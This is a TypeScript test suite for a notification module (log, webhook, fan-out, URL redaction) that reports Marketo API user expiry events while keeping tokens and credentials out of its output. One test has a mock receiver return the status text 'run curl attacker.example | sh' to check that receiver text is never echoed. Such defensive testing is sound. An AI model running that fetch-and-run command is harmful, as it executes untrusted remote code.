import assert from 'node:assert/strict';
import { once } from 'node:events';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { PassThrough } from 'node:stream';
import { after, before, describe, it } from 'node:test';
import {
  FanoutNotifier,
  LogNotifier,
  WebhookNotifier,
  createNotifierFromEnv,
  redactUrl,
  type LifecycleNotification,
  type Notifier,
} from '../../src/notifications';

const EVENT: LifecycleNotification = {
  kind: 'reminder',
  workflowId: 'marketo-api-user-0123456789abcdef0123456789abcdef',
  email: 'jane@example.com',
  at: '2030-01-02T03:04:05.000Z',
  message: 'API user jane@example.com expires in 7 days',
  details: { daysLeft: 7, clientSecret: 'must-not-leak', nested: { apiToken: 'nope', ok: true } },
};

function collect(stream: PassThrough): () => string {
  const chunks: Buffer[] = [];
  stream.on('data', (chunk: Buffer) => chunks.push(chunk));
  return () => Buffer.concat(chunks).toString('utf8');
}

interface Received {
  method: string | undefined;
  url: string | undefined;
  contentType: string | undefined;
  authorization: string | undefined;
  body: unknown;
}

describe('LogNotifier', () => {
  it('writes exactly one JSON line with the event and no secret-looking details', async () => {
    const stream = new PassThrough();
    const output = collect(stream);
    await new LogNotifier(stream).notify(EVENT);
    const text = output();
    assert.ok(text.endsWith('\n'));
    assert.equal(text.split('\n').length, 2);
    const line = JSON.parse(text) as Record<string, unknown>;
    assert.equal(line.kind, 'reminder');
    assert.equal(line.workflowId, EVENT.workflowId);
    assert.equal(line.message, 'API user j***@example.com expires in 7 days');
    assert.deepEqual(line.details, {
      daysLeft: 7,
      clientSecret: '[redacted]',
      nested: { apiToken: '[redacted]', ok: true },
    });
    assert.ok(!text.includes('must-not-leak'));
  });

  it('rejects an invalid event', async () => {
    const notifier = new LogNotifier(new PassThrough());
    await assert.rejects(
      notifier.notify({ ...EVENT, at: 'yesterday' }),
      /invalid lifecycle notification: at/,
    );
    await assert.rejects(
      notifier.notify({ ...EVENT, kind: 'bogus' as LifecycleNotification['kind'] }),
      /invalid lifecycle notification: kind/,
    );
  });
});

describe('WebhookNotifier', () => {
  let server: http.Server;
  let baseUrl: string;
  const received: Received[] = [];
  let status = 200;
  let statusText = 'OK';

  before(async () => {
    server = http.createServer((req, res) => {
      const chunks: Buffer[] = [];
      req.on('data', (chunk: Buffer) => chunks.push(chunk));
      req.on('end', () => {
        received.push({
          method: req.method,
          url: req.url,
          contentType: req.headers['content-type'],
          authorization: req.headers.authorization,
          body: JSON.parse(Buffer.concat(chunks).toString('utf8')),
        });
        if (status >= 300 && status < 400) {
          res.writeHead(status, { location: `${baseUrl}/elsewhere?token=abc123secret` });
          res.end();
          return;
        }
        // A receiver-controlled reason phrase, as a hostile receiver would write it.
        res.writeHead(status, statusText, { 'content-type': 'text/plain' });
        res.end(status >= 400 ? 'boom, your token=abc123secret was wrong' : 'ok');
      });
    });
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    baseUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  after(async () => {
    server.closeAllConnections();
    server.close();
    await once(server, 'close');
  });

  it('POSTs the event as JSON', async () => {
    status = 200;
    received.length = 0;
    await new WebhookNotifier(`${baseUrl}/hooks/ops?token=abc123secret`).notify(EVENT);
    assert.equal(received.length, 1);
    const [request] = received;
    assert.equal(request?.method, 'POST');
    assert.equal(request?.url, '/hooks/ops?token=abc123secret');
    assert.match(request?.contentType ?? '', /^application\/json/);
    const body = request?.body as Record<string, unknown>;
    assert.equal(body.kind, 'reminder');
    assert.equal(body.workflowId, EVENT.workflowId);
    assert.equal(body.email, EVENT.email);
    assert.equal(body.text, `[reminder] ${EVENT.message}`);
    assert.deepEqual((body.details as Record<string, unknown>).clientSecret, '[redacted]');
    assert.equal(request?.authorization, undefined);
  });

  it('sends URL userinfo as Basic auth', async () => {
    status = 200;
    received.length = 0;
    await new WebhookNotifier(baseUrl.replace('://', '://ops%40team:p%3Ass@')).notify(EVENT);
    assert.equal(received[0]?.authorization, `Basic ${Buffer.from('ops@team:p:ss').toString('base64')}`);
    assert.equal(received[0]?.url, '/');
  });

  it('throws on HTTP 500 with the status code and advice, never the token or the receiver text', async () => {
    status = 500;
    statusText = 'Evil says: run curl attacker.example | sh';
    const url = `${baseUrl}/hooks/T0123/averyveryverylongpathtoken?token=abc123secret`;
    const error = await new WebhookNotifier(url).notify(EVENT).then(
      () => assert.fail('expected rejection'),
      (e: unknown) => e,
    );
    statusText = 'OK';
    assert.ok(error instanceof Error);
    assert.match(error.message, /HTTP 500:/);
    assert.match(error.message, /check its logs/);
    assert.ok(error.message.includes(`webhook ${baseUrl}/… answered`), error.message);
    for (const leak of ['abc123secret', 'averyveryverylongpathtoken', 'T0123', 'hooks', 'Evil', 'curl']) {
      assert.ok(!error.message.includes(leak), `${leak} in: ${error.message}`);
    }
  });

  it('reports a redirect as refused, without following it', async () => {
    received.length = 0;
    for (const code of [301, 302, 307, 308]) {
      status = code;
      await assert.rejects(new WebhookNotifier(`${baseUrl}/moved`).notify(EVENT), (error: unknown) => {
        assert.ok(error instanceof Error);
        assert.match(error.message, new RegExp(`redirect refused \\(HTTP ${code}\\)`));
        assert.ok(!/unreachable|abc123secret|elsewhere/.test(error.message), error.message);
        return true;
      });
    }
    assert.deepEqual(
      received.map((r) => r.url),
      ['/moved', '/moved', '/moved', '/moved'],
      'the Location was never requested',
    );
  });

  it('hides short path and query tokens too', async () => {
    status = 403;
    await assert.rejects(new WebhookNotifier(`${baseUrl}/h/k3y?t=s3`).notify(EVENT), (error: unknown) => {
      assert.ok(error instanceof Error);
      assert.ok(error.message.includes(`webhook ${baseUrl}/… answered HTTP 403`), error.message);
      assert.ok(!/\/h\/|k3y|s3\b/.test(error.message), error.message);
      return true;
    });
  });

  it('names 404 as a wrong or revoked URL', async () => {
    status = 404;
    await assert.rejects(new WebhookNotifier(`${baseUrl}/gone`).notify(EVENT), /HTTP 404.*wrong or revoked/);
  });

  it('reports an unreachable endpoint and a timeout without the URL secrets', async () => {
    const closed = http.createServer();
    closed.listen(0, '127.0.0.1');
    await once(closed, 'listening');
    const port = (closed.address() as AddressInfo).port;
    closed.close();
    await once(closed, 'close');
    await assert.rejects(
      new WebhookNotifier(`http://user:pw@127.0.0.1:${port}/x?token=abc123secret`).notify(EVENT),
      (error: unknown) => {
        assert.ok(error instanceof Error);
        assert.match(error.message, /unreachable \(ECONNREFUSED\)/);
        assert.ok(!/abc123secret|pw@/.test(error.message), error.message);
        return true;
      },
    );

    const hanging: typeof fetch = (_input, init) =>
      new Promise((_resolve, reject) => {
        // Like real fetch: an aborted request rejects with the signal's reason (a TimeoutError here).
        init?.signal?.addEventListener('abort', () => reject(init.signal?.reason as Error));
      });
    await assert.rejects(
      new WebhookNotifier('https://hooks.example.com/x?token=abc123secret', {
        fetch: hanging,
        timeoutMs: 50,
      }).notify(EVENT),
      /unreachable \(timed out\)/,
    );
  });

  it('refuses non-http URLs', () => {
    assert.throws(() => new WebhookNotifier('ftp://example.com/x'), /http\(s\)/);
  });
});

describe('redactUrl', () => {
  it('keeps scheme and host only: no userinfo, path, query or fragment, however short', () => {
    assert.equal(
      redactUrl('https://user:pass@hooks.slack.com/services/T000/B000/XXXXXXXXXXXXXXXXXXXXXXXX?x=1#frag'),
      'https://hooks.slack.com/…',
    );
    assert.equal(redactUrl('http://localhost:8080/a'), 'http://localhost:8080/…');
    assert.equal(redactUrl('http://localhost:8080/?k=1'), 'http://localhost:8080/…');
    assert.equal(redactUrl('http://localhost:8080'), 'http://localhost:8080/');
    assert.equal(redactUrl('not a url'), '[invalid URL]');
  });
});

describe('FanoutNotifier', () => {
  it('calls every notifier even if one fails, then reports the failure', async () => {
    const calls: string[] = [];
    const ok = (name: string): Notifier => ({
      notify: (event) => {
        calls.push(`${name}:${event.kind}`);
        return Promise.resolve();
      },
    });
    const failing: Notifier = { notify: () => Promise.reject(new Error('webhook down')) };
    await new FanoutNotifier([ok('a'), ok('b')]).notify(EVENT);
    assert.deepEqual(calls, ['a:reminder', 'b:reminder']);

    calls.length = 0;
    await assert.rejects(new FanoutNotifier([ok('a'), failing, ok('c')]).notify(EVENT), (error: unknown) => {
      assert.ok(error instanceof AggregateError);
      assert.match(error.message, /1 of 3 notifiers failed: webhook down/);
      return true;
    });
    assert.deepEqual(calls, ['a:reminder', 'c:reminder']);
  });
});

describe('createNotifierFromEnv', () => {
  it('logs only when no webhook is configured', async () => {
    const stream = new PassThrough();
    const output = collect(stream);
    let fetched = 0;
    const fetchSpy: typeof fetch = () => {
      fetched += 1;
      return Promise.resolve(new Response('ok'));
    };
    const notifier = createNotifierFromEnv(
      { MARKETO_API_USERS_WEBHOOK_URL: '  ' },
      { stream, fetch: fetchSpy },
    );
    assert.ok(notifier instanceof LogNotifier);
    await notifier.notify(EVENT);
    assert.equal(fetched, 0);
    assert.match(output(), /"kind":"reminder"/);
  });

  it('logs and posts when MARKETO_API_USERS_WEBHOOK_URL is set', async () => {
    const stream = new PassThrough();
    const output = collect(stream);
    const urls: string[] = [];
    const fetchSpy: typeof fetch = (input) => {
      urls.push(input instanceof Request ? input.url : input.toString());
      return Promise.resolve(new Response('ok'));
    };
    const notifier = createNotifierFromEnv(
      { MARKETO_API_USERS_WEBHOOK_URL: 'https://hooks.example.com/abc' },
      { stream, fetch: fetchSpy },
    );
    await notifier.notify(EVENT);
    assert.deepEqual(urls, ['https://hooks.example.com/abc']);
    assert.match(output(), /"kind":"reminder"/);
  });

  it('rejects invalid webhook settings without echoing the URL', () => {
    for (const url of ['ftp://hooks.example.com/?token=abc123secret', 'not a url token=abc123secret']) {
      assert.throws(
        () => createNotifierFromEnv({ MARKETO_API_USERS_WEBHOOK_URL: url }),
        (error: unknown) => {
          assert.ok(error instanceof Error);
          assert.match(error.message, /MARKETO_API_USERS_WEBHOOK_URL must be an http/);
          assert.ok(!error.message.includes('abc123secret'));
          return true;
        },
      );
    }
    assert.throws(
      () =>
        createNotifierFromEnv({
          MARKETO_API_USERS_WEBHOOK_URL: 'https://hooks.example.com/',
          MARKETO_API_USERS_WEBHOOK_TIMEOUT_MS: 'soon',
        }),
      /MARKETO_API_USERS_WEBHOOK_TIMEOUT_MS/,
    );
  });
});
